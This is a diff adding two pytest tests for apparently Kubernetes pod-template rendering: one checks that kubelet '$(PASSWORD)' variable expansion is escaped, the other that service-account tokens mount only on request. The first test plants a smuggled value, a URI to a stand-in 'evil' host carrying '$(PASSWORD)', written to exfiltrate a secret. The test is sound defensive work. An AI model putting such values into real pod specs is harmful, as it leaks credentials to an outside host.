@@ -299,3 +299,18 @@ class TestPullSecrets:
         assert after is not None
         assert before.revision == after.revision
         assert before.template != after.template
+
+
+def test_what_a_spec_says_reaches_no_other_variable_of_the_pod() -> None:
+    """The kubelet would put the password of an `envFrom` into the address, and the init step would ask for it there."""
+    planted = replace(model("1"), uri="https://evil/$(PASSWORD)/m.tar.gz", name="$(PASSWORD)")
+    made = pod_template("churn", planted, Server(), SETTINGS)
+    values = [variable.get("value", "") for name in ("server", "fetch") for variable in container(made, name)["env"]]
+    assert "https://evil/$$(PASSWORD)/m.tar.gz" in values
+    assert not [value for value in values if "$(" in value.replace("$$", "")]
+
+
+@pytest.mark.parametrize(("asked", "mounted"), [({}, False), ({"automountServiceAccountToken": True}, True)])
+def test_a_token_is_mounted_only_where_the_template_asks_for_it(asked: Object, mounted: bool) -> None:
+    made = rendered({"spec": {"serviceAccountName": "powerful", **asked}})
+    assert made["spec"]["automountServiceAccountToken"] is mounted
